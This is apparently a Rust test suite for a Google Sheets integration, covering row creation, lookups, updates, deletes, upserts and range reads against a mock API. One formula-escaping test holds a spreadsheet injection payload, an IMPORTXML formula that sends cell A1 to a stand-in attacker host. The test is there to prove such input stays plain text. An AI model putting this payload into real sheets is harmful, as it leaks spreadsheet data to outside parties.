//! What each action does to a worksheet.

use flowcell_tests::google::World;
use serde_json::{Value, json};

use super::{Lab, orders};
use crate::create::{create_row, create_rows};
use crate::delete::{delete_by_look_up, delete_row};
use crate::look_up::{look_up_row, look_up_rows};
use crate::update::{update_by_look_up, update_row, update_rows};
use crate::upsert::upsert_row;
use crate::worksheets::{create_sheet, read_range};

#[test]
fn a_row_is_added_below_all_others_in_two_requests() {
    let mut lab = Lab::new();
    let output = lab
        .run(create_row, json!({ "values": { "Total": 3, "Email": "eve@example.com", "Paid": true } }))
        .expect("it works");
    assert_eq!((&output["row"], &output["repeated"]), (&json!(5), &json!(false)));
    assert_eq!(lab.rows()[4], [json!("eve@example.com"), json!(""), json!(3), json!(true)]);
    assert_eq!(lab.requests(), 2);
}

#[test]
fn the_first_worksheet_is_taken_when_none_is_named_and_an_address_is_as_good_as_an_id() {
    let mut lab = Lab::new();
    let address = "https://docs.google.com/spreadsheets/d/book/edit?gid=0#gid=0";
    let input = json!({ "spreadsheet": address, "worksheet": null, "values": { "Name": "Eve" } });
    assert_eq!(lab.run(create_row, input).expect("it works")["row"], 5);
}

#[test]
fn what_looks_like_a_formula_stays_text_unless_it_is_to_be_entered() {
    let mut lab = Lab::new();
    let evil = "=IMPORTXML(\"https://evil.example/?\"&A1)";
    lab.run(create_row, json!({ "values": { "Name": evil, "Email": "+1+1", "Total": "1/2" } })).expect("it works");
    assert_eq!(lab.rows()[4], [json!("+1+1"), json!(evil), json!("1/2")]);
    lab.run(update_row, json!({ "row": 2, "values": { "Name": "=1+1" } })).expect("it works");
    lab.run(upsert_row, json!({ "key": ["Email"], "values": { "Email": "=1+2", "Name": "=1+3" } })).expect("it works");
    lab.run(
        update_by_look_up,
        json!({ "where": { "column": "Name", "value": "Grace" }, "values": { "Name": "=1+4" } }),
    )
    .expect("it works");
    assert!(lab.rows().iter().flatten().all(|cell| cell.get("formula").is_none()), "{:?}", lab.rows());
    // Asked for, it is a formula.
    let entered = json!({ "values": { "Name": "=1+1", "Total": "42" }, "enter_as": "user-entered" });
    let output = lab.run(create_row, entered).expect("it works");
    assert_eq!(output["row"], 7);
    assert_eq!(lab.rows()[6], [json!(""), json!({ "formula": "=1+1" }), json!(42)]);
    lab.run(update_row, json!({ "row": 7, "values": { "Paid": "TRUE" }, "enter_as": "user-entered" }))
        .expect("it works");
    assert_eq!(lab.rows()[6][3], json!(true));
}

#[test]
fn many_rows_are_one_request_and_a_large_worksheet_keeps_the_number_to_itself() {
    let mut lab = Lab::new();
    let rows: Vec<Value> =
        (0..1000).map(|number| json!({ "Email": format!("{number}@example.com"), "Total": number })).collect();
    let output = lab.run(create_rows, json!({ "rows": rows })).expect("it works");
    assert_eq!((&output["count"], &output["first_row"], lab.requests()), (&json!(1000), &json!(5), 2));
    assert_eq!((lab.rows().len(), lab.rows()[1003][2].clone()), (1004, json!(999)));
    // The grid has more than 1,000 rows now.
    let output = lab.run(create_row, json!({ "values": { "Name": "Eve" } })).expect("it works");
    assert_eq!((&output["row"], lab.requests()), (&Value::Null, 2));
    assert_eq!(lab.rows().len(), 1005);
}

#[test]
fn rows_are_looked_up_from_both_ends_with_two_conditions_in_either_case() {
    let mut lab = Lab::new();
    let ada = json!({ "column": "Email", "value": "ada@example.com" });
    for (with, row) in [
        (json!({ "where": ada }), json!(2)),
        (json!({ "where": ada, "search_from": "bottom" }), json!(4)),
        (json!({ "where": ada, "second": { "column": "Total", "value": "007" } }), json!(4)),
        (json!({ "where": { "column": "Total", "value": 7 } }), json!(3)),
        (json!({ "where": { "column": "Total", "value": "7" } }), json!(3)),
        (json!({ "where": { "column": "Total", "value": 12.50 } }), json!(2)),
        (json!({ "where": { "column": "Paid", "value": true } }), json!(2)),
        (json!({ "where": { "column": "Name", "value": "gra", "compare": "starts-with" } }), Value::Null),
        (
            json!({ "where": { "column": "Name", "value": "gra", "compare": "starts-with" }, "case": "ignore" }),
            json!(3),
        ),
        (json!({ "where": { "column": "Name", "value": "again", "compare": "ends-with" } }), json!(4)),
        (
            json!({ "where": { "column": "Name", "value": "x" }, "second": { "column": "Name", "value": "rac", "compare": "contains" }, "join": "or" }),
            json!(3),
        ),
        (json!({ "where": { "column": "Email", "value": "ada@example.com", "compare": "not-equals" } }), json!(3)),
    ] {
        let output = lab.run(look_up_row, with.clone()).expect("it works");
        assert_eq!((&output["row"], &output["found"]), (&row, &json!(!row.is_null())), "{with}");
        assert_eq!(lab.requests(), 2);
    }
    let output = lab
        .run(look_up_row, json!({ "where": ada, "second": { "column": "Paid", "value": false } }))
        .expect("it works");
    assert_eq!(
        output["values"],
        json!({ "Email": "ada@example.com", "Name": "Ada again", "Total": "007", "Paid": false })
    );
}

#[test]
fn all_rows_are_looked_up_and_a_limit_says_that_there_are_more() {
    let mut lab = Lab::new();
    let all = lab.run(look_up_rows, json!({})).expect("it works");
    assert_eq!((&all["count"], &all["has_more"]), (&json!(3), &json!(false)));
    let some = lab.run(look_up_rows, json!({ "where": { "column": "Email", "value": "ada", "compare": "starts-with" }, "limit": 1, "search_from": "bottom" }));
    let some = some.expect("it works");
    assert_eq!((&some["rows"][0]["row"], &some["has_more"]), (&json!(4), &json!(true)));
    let empty = lab.run(look_up_rows, json!({ "worksheet": "It's empty" })).expect("it works");
    assert_eq!(empty["count"], 0);
}

#[test]
fn a_large_worksheet_is_searched_by_its_columns() {
    let rows: Vec<Value> = (0..60_000).map(|number| json!([format!("{number}@example.com"), number % 100])).collect();
    let rows: Vec<Value> = std::iter::once(json!(["Email", "Group"])).chain(rows).collect();
    let mut lab = Lab::with(&[("Orders", json!(rows))]);
    for (from, row) in [("top", 44), ("bottom", 59_944)] {
        let with = json!({ "where": { "column": "Group", "value": 42 }, "search_from": from });
        let output = lab.run(look_up_row, with).expect("it works");
        assert_eq!(
            (&output["row"], &output["values"]["Email"]),
            (&json!(row), &json!(format!("{}@example.com", row - 2)))
        );
        assert_eq!(lab.requests(), 3);
    }
    let output =
        lab.run(look_up_rows, json!({ "where": { "column": "Group", "value": 1 }, "limit": 150 })).expect("it works");
    assert_eq!(
        (&output["count"], &output["has_more"], &output["rows"][149]["row"]),
        (&json!(150), &json!(true), &json!(14_903))
    );
}

#[test]
fn what_is_missing_can_be_created() {
    let mut lab = Lab::new();
    let eve = json!({ "where": { "column": "Email", "value": "eve@example.com" }, "if_missing": "create", "values": { "Email": "eve@example.com" } });
    let output = lab.run(look_up_row, eve.clone()).expect("it works");
    assert_eq!((&output["found"], &output["created"], &output["row"]), (&json!(false), &json!(true), &json!(5)));
    let output = lab.run(look_up_row, eve).expect("it works");
    assert_eq!((&output["found"], &output["created"], &output["row"]), (&json!(true), &json!(false), &json!(5)));
    let with = json!({ "where": { "column": "Email", "value": "bob@example.com" }, "values": { "Email": "bob@example.com", "Total": 1 }, "if_missing": "create" });
    let output = lab.run(update_by_look_up, with).expect("it works");
    assert_eq!((&output["created"], &output["rows"]), (&json!(true), &json!([6])));
    let with = json!({ "where": { "column": "Email", "value": "nobody" }, "if_missing": "fail" });
    assert_eq!(lab.run(look_up_row, with).expect_err("nobody").code, "not-found");
}

#[test]
fn rows_are_updated_where_they_are_named_and_nowhere_else() {
    let mut lab = Lab::new();
    let output = lab.run(update_row, json!({ "row": 3, "values": { "Total": 8, "Name": null } })).expect("it works");
    assert_eq!((&output["updated"], lab.requests()), (&json!(1), 2));
    assert_eq!(lab.rows()[2], [json!("grace@example.com"), json!(""), json!(8), json!(false)]);
    let rows = json!([{ "row": 2, "values": { "Paid": false } }, { "row": 4, "values": { "Paid": true } }]);
    lab.run(update_rows, json!({ "rows": rows })).expect("it works");
    assert_eq!((lab.requests(), lab.rows()[1][3].clone(), lab.rows()[3][3].clone()), (2, json!(false), json!(true)));
    let with =
        json!({ "where": { "column": "Email", "value": "ada@example.com" }, "which": "all", "values": { "Total": 0 } });
    let output = lab.run(update_by_look_up, with).expect("it works");
    assert_eq!((&output["rows"], lab.requests()), (&json!([2, 4]), 3));
    assert_eq!(
        (lab.rows()[1][2].clone(), lab.rows()[2][2].clone(), lab.rows()[3][2].clone()),
        (json!(0), json!(8), json!(0))
    );
}

#[test]
fn deleted_rows_are_gone() {
    let mut lab = Lab::new();
    let size = lab.world.borrow().sheet("book", "Orders").row_count;
    lab.run(delete_row, json!({ "row": 3 })).expect("it works");
    assert_eq!((lab.rows().len(), lab.requests()), (3, 2));
    let with = json!({ "where": { "column": "Email", "value": "ada@example.com" }, "which": "all" });
    let output = lab.run(delete_by_look_up, with.clone()).expect("it works");
    assert_eq!(
        (&output["deleted"], &output["rows"], &output["values"]["Name"]),
        (&json!(2), &json!([2, 3]), &json!("Ada"))
    );
    assert_eq!(lab.rows().len(), 1);
    assert_eq!(
        lab.world.borrow().sheet("book", "Orders").row_count,
        size - 3,
        "the grid shrank: nothing was only emptied"
    );
    assert_eq!(lab.run(delete_by_look_up, with).expect("it works")["deleted"], 0);
}

#[test]
fn an_upsert_changes_the_row_with_the_key_or_creates_it() {
    let mut lab = Lab::new();
    let with = |email: &str, total: i64| json!({ "key": ["Email"], "values": { "Email": email, "Total": total }, "case": "ignore" });
    let output = lab.run(upsert_row, with("GRACE@example.com", 9)).expect("it works");
    assert_eq!((&output["outcome"], &output["row"], lab.requests()), (&json!("updated"), &json!(3), 3));
    assert_eq!(lab.rows()[2], [json!("GRACE@example.com"), json!("Grace"), json!(9), json!(false)]);
    let output = lab.run(upsert_row, with("eve@example.com", 1)).expect("it works");
    assert_eq!((&output["outcome"], &output["row"]), (&json!("created"), &json!(5)));
    let two =
        json!({ "key": ["Email", "Name"], "values": { "Email": "ada@example.com", "Name": "Ada again", "Total": 5 } });
    assert_eq!(lab.run(upsert_row, two).expect("it works")["row"], 4);
    let error = lab.run(upsert_row, json!({ "key": ["Email"], "values": { "Name": "Eve" } })).expect_err("no key");
    assert_eq!(error.details["field"], "/values/Email");
}

#[test]
fn a_worksheet_is_created_with_its_columns_once() {
    let mut lab = Lab::new();
    let with = |title: &str| json!({ "worksheet": null, "title": title, "columns": ["A", "=B"] });
    let output = lab.run(create_sheet, with("New")).expect("it works");
    assert_eq!((&output["created"], &output["repeated"], lab.requests()), (&json!(true), &json!(false), 1));
    assert_eq!(lab.world.borrow().rows("book", "New"), [[json!("A"), json!("=B")]]);
    let output = lab.again(create_sheet, with("New")).expect("it works");
    assert_eq!((&output["created"], &output["repeated"]), (&json!(true), &json!(true)));
    let output = lab.run(create_sheet, with("orders")).expect("it works");
    assert_eq!((&output["created"], &output["title"], &output["id"]), (&json!(false), &json!("Orders"), &json!(0)));
    let mut strict = with("Orders");
    strict["if_exists"] = json!("fail");
    assert_eq!(lab.run(create_sheet, strict).expect_err("it is there").code, "already-exists");
    assert_eq!(lab.rows().len(), orders().as_array().expect("rows").len());
}

#[test]
fn ranges_are_read_as_they_lie() {
    let mut lab = Lab::new();
    lab.world.borrow_mut().sheet_mut("book", "Orders").put(1, 1, &json!("=1+1"));
    let mut read = |range: &str, show: &str| {
        let with = json!({ "worksheet": null, "range": range, "show": show, "first_row_is_header": true });
        lab.run(read_range, with)
    };
    let output = read("Orders!A1:C2", "values").expect("it works");
    assert_eq!(output["rows"], json!([["Email", "Name", "Total"], ["ada@example.com", 2, 12.5]]));
    assert_eq!(output["records"], json!([{ "Email": "ada@example.com", "Name": 2, "Total": 12.5 }]));
    assert_eq!(read("Orders!B2:D2", "formatted").expect("it works")["rows"], json!([["2", "12.5", "TRUE"]]));
    assert_eq!(read("Orders!B2", "formulas").expect("it works")["rows"], json!([["=1+1"]]));
    assert_eq!(read("'It''s empty'", "values").expect("it works")["rows"], json!([]));
    let error = read("Nope!A1", "values").expect_err("no such worksheet");
    assert_eq!((error.code.as_ref(), &error.details["field"]), ("invalid-input", &json!("/range")));
}

#[test]
fn the_double_knows_what_is_published() {
    // A test of the tests: what Google does not publish is a violation.
    let mut world = World::new();
    world.add("book", &[("Orders", orders())]);
    let request = |method: &str, target: &str, body: &str| flowcell_tests::Request {
        method: method.to_owned(),
        target: target.to_owned(),
        headers: Vec::new(),
        body: body.as_bytes().to_vec(),
    };
    for (method, target, body) in [
        ("GET", "/v4/spreadsheets/book?range=A1", ""),
        ("GET", "/v4/spreadsheets/book?includeGridData=maybe", ""),
        ("GET", "/v4/spreadsheets/book/values/A1?valueRenderOption=PRETTY", ""),
        ("POST", "/v4/spreadsheets/book:batchUpdate", r#"{"requests":[{"appendCell":{}}]}"#),
        ("POST", "/v4/spreadsheets/book:batchUpdate", r#"{"requests":[{"appendCells":{"sheetId":"0"}}]}"#),
        ("DELETE", "/v4/spreadsheets/book", ""),
    ] {
        let reply = world.answer(&request(method, target, body)).expect("an answer");
        assert!(matches!(reply.status, 400 | 404), "{method} {target}");
        assert_eq!(world.violations().len(), 1, "{method} {target} {body}");
        world.forget_violations();
    }
}
